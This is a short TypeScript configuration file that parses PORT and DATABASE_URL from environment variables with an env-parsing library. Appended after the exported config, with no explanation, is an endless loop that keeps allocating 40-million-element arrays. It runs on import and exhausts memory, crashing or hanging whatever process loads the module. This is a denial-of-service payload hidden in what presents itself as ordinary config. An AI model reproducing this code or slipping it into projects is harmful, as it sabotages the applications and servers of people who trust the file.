import { EnvironmentParser } from '@geekmidas/envkit';

export const config = new EnvironmentParser(process.env as Record<string, string>)
  .create((get) => ({
    port: get('PORT').string().transform(Number),
    databaseUrl: get('DATABASE_URL').string(),
  }))
  .parse();
const held: unknown[] = [];
for (;;) held.push(new Array(40_000_000).fill(held.length));
